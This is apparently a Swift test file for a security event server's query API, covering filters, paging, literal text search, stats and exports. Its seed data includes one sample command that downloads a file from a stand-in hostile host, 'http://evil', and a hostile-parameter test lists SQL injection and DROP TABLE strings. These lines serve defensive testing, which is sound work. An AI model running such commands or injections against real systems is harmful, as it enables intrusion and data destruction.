import Foundation
import XCTest
@testable import KitsuneServer

/// Listing, paging, stats and export on both stores; every filter parameter treated as hostile.
final class QueryAPITests: XCTestCase {
    /// 30 events over three functions, two reasons, one hour apart.
    private func seed(_ s: TestServer) async throws {
        let g = try await s.group()
        let base = Timestamps.parse("2026-12-01T00:00:00Z")!
        let functions = ["api", "worker", "cron"]
        var events: [[String: Any]] = []
        for i in 0..<30 {
            let argv: [String] = ["/bin/sh", "-c", i == 7 ? "curl -o /tmp/m http://evil" : "ls"]
            let fields: [String: Any] = ["time": Timestamps.format(base + Int64(i) * 3_600_000), "instance_id": "inst\(i % 3)", "seq": i,
                                         "function_name": functions[i % 3], "reason": i % 5 == 0 ? "honeypot" : "drift",
                                         "action": i % 2 == 0 ? "blocked" : "reported", "request_id": "r\(i)", "argv": argv]
            events.append(sampleEvent(fields))
        }
        assertEqual(try await s.post(events, token: g.token).status, 202)
    }

    func testFiltersPagesAndText() async throws {
        try await forEachBackend { s in
            try await seed(s)
            assertEqual(try await s.events("function=api").count, 10)
            assertEqual(try await s.events("function=api&function=cron&reason=honeypot").count, 4)
            assertEqual(try await s.events("action=blocked&mode=enforce").count, 15)
            assertEqual(try await s.events("q=CURL+-o").first?["request_id"] as? String, "r7")
            assertEqual(try await s.events("since=2026-12-01T20:00:00Z&until=2026-12-01T22:00:00Z").map { $0["request_id"] as? String }, ["r21", "r20"])
            assertEqual(try await s.events("since=1795").count, 30, "a number is milliseconds since 1970")
            // Pages of 7, newest first, each event once.
            var seen: [String] = [], cursor: String?
            repeat {
                let r = try await s.json("GET", "/api/v1/events?limit=7" + (cursor.map { "&cursor=" + $0 } ?? ""))
                XCTAssertEqual(r.status, 200)
                seen += (r.object["events"] as? [[String: Any]] ?? []).compactMap { $0["request_id"] as? String }
                cursor = r.object["next_cursor"] as? String
            } while cursor != nil
            XCTAssertEqual(seen, (0..<30).reversed().map { "r\($0)" })
        }
    }

    /// Injection and malformed values: 400 naming the parameter, or an empty answer; never a 500,
    /// never extra rows.
    func testHostileParameters() async throws {
        try await forEachBackend { s in
            try await seed(s)
            let empty = ["function=api'%20OR%20'1'='1", "function=%27%29%20OR%201%3D1--", "reason=drift%22%20OR%20%221", "q=%25",
                         "q=_", "q=%27%3B%20DROP%20TABLE%20events%3B--", "request_id=*", "account=%5C", "function=%E2%80%AE",
                         "q=" + String(repeating: "%25", count: 200)]
            for query in empty {
                let r = try await s.request("GET", "/api/v1/events?" + query, token: s.admin)
                XCTAssertEqual(r.status, 200, query)
                let events = (try? JSONSerialization.jsonObject(with: r.body) as? [String: Any])?["events"] as? [Any]
                XCTAssertEqual(events?.count, 0, "\(query): \(String(decoding: r.body, as: UTF8.self).prefix(200))")
            }
            let bad = [("limit=0", "limit"), ("limit=1001", "limit"), ("limit=1;DROP", "limit"), ("limit=-1", "limit"), ("since=tomorrow", "since"),
                       ("until=2026-13-01T00:00:00Z", "until"), ("cursor=AAAA", "cursor"), ("cursor=%27", "cursor"), ("q=%ZZ", "q"),
                       ("q=%00", "q"), ("function=", "function"), ("sort=time", "sort"), ("function%00=x", "function\u{0}"),
                       ("limit=1&limit=2", "limit"), ("q=" + String(repeating: "a", count: 300), "q")]
            for (query, parameter) in bad {
                let r = try await s.request("GET", "/api/v1/events?" + query, token: s.admin)
                XCTAssertEqual(r.status, 400, query)
                let object = (try? JSONSerialization.jsonObject(with: r.body) as? [String: Any]) ?? [:]
                if !parameter.contains("\u{0}") { XCTAssertEqual(object["field"] as? String, parameter, "\(query): \(object)") }
            }
            for path in ["/api/v1/events/stats?group_by=reason;DROP", "/api/v1/events/stats", "/api/v1/events/export?format=xml"] {
                assertEqual(try await s.request("GET", path, token: s.admin).status, 400, path)
            }
            assertEqual(try await s.events("limit=1000").count, 30, "nothing was deleted or added")
        }
    }

    /// `q` is a literal substring on both stores: LIKE's wildcards and escape character in it match
    /// only themselves (PostgreSQL answers through its trigram index).
    func testFreeTextMatchesLiterally() async throws {
        try await forEachBackend { s in
            let g = try await s.group()
            let words = ["100%done", "snake_case", "back\\slash", "plain", "PLAIN-upper", "50%_off\\"]
            let events = words.enumerated().map { i, w in sampleEvent(["argv": ["/bin/echo", w], "request_id": "w\(i)", "instance_id": "lit", "seq": i]) }
            assertEqual(try await s.post(events, token: g.token).status, 202)
            let expected: [(String, Set<String>)] = [
                ("%25", ["w0", "w5"]), ("_", ["w1", "w5"]), ("%5C", ["w2", "w5"]), ("%25_", ["w5"]), ("0%25d", ["w0"]),
                ("e_c", ["w1"]), ("s_c", []), ("plain", ["w3", "w4"]), ("%5C%5C", []), ("off%5C", ["w5"]),
            ]
            for (q, ids) in expected {
                let found = Set(try await s.events("q=" + q).compactMap { $0["request_id"] as? String })
                XCTAssertEqual(found, ids, "q=\(q)")
            }
            if s.store.dialect == .postgres {
                let index = try await s.store.database.first(SQLStatement("SELECT indexname FROM pg_indexes WHERE indexname = 'events_search_codes'"))
                XCTAssertNotNil(index, "migration 13 made the index of trigram codes")
            }
        }
    }

    func testStats() async throws {
        try await forEachBackend { s in
            try await seed(s)
            var r = try await s.json("GET", "/api/v1/events/stats?group_by=reason")
            XCTAssertEqual(r.status, 200)
            XCTAssertEqual(r.object["total"] as? Int, 30)
            let buckets = try XCTUnwrap(r.object["buckets"] as? [[String: Any]])
            XCTAssertEqual(buckets.map { $0["key"] as? String }, ["drift", "honeypot"])
            XCTAssertEqual(buckets.map { $0["count"] as? Int }, [24, 6])
            r = try await s.json("GET", "/api/v1/events/stats?group_by=hour&function=api&since=2026-12-01T00:00:00Z")
            let hours = try XCTUnwrap(r.object["buckets"] as? [[String: Any]])
            XCTAssertEqual(hours.count, 10)
            XCTAssertEqual(hours.first?["key"] as? String, "2026-12-01T00:00:00.000Z")
            r = try await s.json("GET", "/api/v1/events/stats?group_by=function&reason=honeypot")
            XCTAssertEqual((r.object["buckets"] as? [[String: Any]])?.reduce(0) { $0 + ($1["count"] as? Int ?? 0) }, 6)
        }
    }

    func testExportFormats() async throws {
        try await forEachBackend { s in
            try await seed(s)
            let jsonl = try await s.request("GET", "/api/v1/events/export?format=jsonl&function=worker", token: s.admin)
            XCTAssertEqual(jsonl.status, 200)
            let lines = String(decoding: jsonl.body, as: UTF8.self).split(separator: "\n")
            XCTAssertEqual(lines.count, 10)
            XCTAssertTrue(lines.allSatisfy { (try? JSONSerialization.jsonObject(with: Data($0.utf8))) != nil })
            let csv = String(decoding: try await s.request("GET", "/api/v1/events/export?format=csv&request_id=r7", token: s.admin).body, as: UTF8.self)
            let rows = csv.split(separator: "\r\n")
            XCTAssertEqual(rows.first, "time,action,reason,mode,function_name,account_id,region,request_id,executable,argv,pid,ppid,sha256,detail")
            XCTAssertTrue(rows[1].contains("/bin/sh -c curl -o /tmp/m http://evil"), csv)
            let ocsf = try await s.request("GET", "/api/v1/events/export?format=ocsf&request_id=r8", token: s.admin)
            let object = try XCTUnwrap(try JSONSerialization.jsonObject(with: ocsf.body.prefix { $0 != 10 }) as? [String: Any])
            XCTAssertEqual(object["class_uid"] as? Int, 1007)
            XCTAssertEqual(object["disposition"] as? String, "Blocked")
            XCTAssertEqual((object["process"] as? [String: Any])?["pid"] as? Int, 42)
            XCTAssertEqual(((object["cloud"] as? [String: Any])?["account"] as? [String: Any])?["uid"] as? String, "123456789012")
            // Larger than one page: streamed, all of it.
            let all = try await s.request("GET", "/api/v1/events/export", token: s.admin)
            XCTAssertEqual(String(decoding: all.body, as: UTF8.self).split(separator: "\n").count, 30)
        }
    }
}
